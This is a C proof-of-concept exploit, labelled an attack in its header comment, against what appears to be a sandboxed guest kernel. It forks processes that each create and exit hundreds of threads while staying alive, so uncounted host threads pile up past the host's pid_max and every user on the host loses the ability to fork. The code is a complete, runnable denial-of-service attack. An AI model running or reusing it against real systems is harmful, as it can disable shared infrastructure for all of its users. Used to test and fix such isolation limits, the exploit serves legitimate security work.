/* Attack: host threads outlive the guest's limits. An exited guest thread's
 * host thread is parked in its mm for reuse and counted nowhere (the kernel
 * caps live tasks at 16384 and processes at 4096, not host threads). Each
 * round forks a process that starts K threads at once, lets them exit and
 * stays alive: its K host threads stay parked. With rounds*K past the host's
 * pid_max (32768 here) the whole host can no longer create a process or
 * thread (every user's fork fails), while the guest has a handful of live
 * tasks. Run with small numbers: parked_threads ROUNDS K. */
#define _GNU_SOURCE
#include <linux/futex.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile int gate = 0, started = 0;
static int thread_fn(void *a) {
  (void)a;
  __sync_fetch_and_add(&started, 1);
  while (!gate) syscall(SYS_futex, &gate, FUTEX_WAIT, 0, 0, 0, 0);
  syscall(SYS_exit, 0);
  return 0;
}
int main(int argc, char **argv) {
  int rounds = argc > 1 ? atoi(argv[1]) : 3, k = argc > 2 ? atoi(argv[2]) : 500;
  for (int r = 0; r < rounds; r++) {
    int p[2];
    pipe(p);
    if (fork() == 0) {
      char *stacks = mmap(0, (size_t)k * 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
      int made = 0;
      for (int i = 0; i < k; i++) {
        if (clone(thread_fn, stacks + (size_t)(i + 1) * 4096 - 64, CLONE_VM | CLONE_THREAD | CLONE_SIGHAND | CLONE_FS | CLONE_FILES, 0) < 0) break;
        made++;
      }
      while (started < made) sched_yield();
      gate = 1;
      syscall(SYS_futex, &gate, FUTEX_WAKE, 1 << 30, 0, 0, 0);
      printf("round %d: %d threads made and exited; process stays\n", r, made); fflush(stdout);
      write(p[1], "x", 1);
      for (;;) pause();
    }
    char c;
    read(p[0], &c, 1);
  }
  printf("done: %d rounds; guest live tasks now %d\n", rounds, rounds + 1); fflush(stdout);
  sleep(2);
  printf("(host threads counted by the caller)\n"); fflush(stdout);
  sleep(30);
  return 0;
}
